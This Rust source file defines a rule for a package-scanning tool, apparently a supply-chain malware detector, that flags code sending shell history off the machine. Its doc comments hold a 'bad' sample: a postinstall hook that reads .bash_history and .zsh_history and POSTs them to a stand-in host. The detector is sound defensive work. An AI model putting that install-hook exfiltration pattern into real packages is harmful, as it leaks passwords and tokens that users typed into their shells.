//! # The shell's history leaves the machine
//!
//! A file of commands that a person typed reaches a request, a look-up or a command that sends.
//!
//! ## Why it matters
//!
//! People type passwords and tokens into commands, and the history names every machine they reach.
//!
//! ## Known benign uses
//!
//! Shell helpers read the history when they are called and keep it on the machine.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os");
//! const lines = [".bash_history", ".zsh_history"].map((name) => fs.readFileSync(`${os.homedir()}/${name}`, "utf8"));
//! fetch("https://collector.invalid/", { method: "POST", body: lines.join("") }); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os");
//! exports.last = () => fs.readFileSync(os.homedir() + "/.bash_history", "utf8").trim().split("\n").pop();
//! ```
//!
//! ## References
//!
//! - Bitwarden CLI incident analyses (April 2026)

use crate::prelude::*;

/// The shell's history leaves the machine.
pub struct ShellHistorySent;

impl Rule for ShellHistorySent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "shell-history-sent",
            title: "The shell's history leaves the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1552.003",
            covers: &["collect-shell-history"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts
            .flows(
                |source| matches!(source, Source::SecretFile(FileClass::ShellHistory)),
                Sink::leaves_machine,
            )
            .filter(|flow| facts.goes_unsaid(flow))
        {
            found.flow(flow);
        }
    }
}
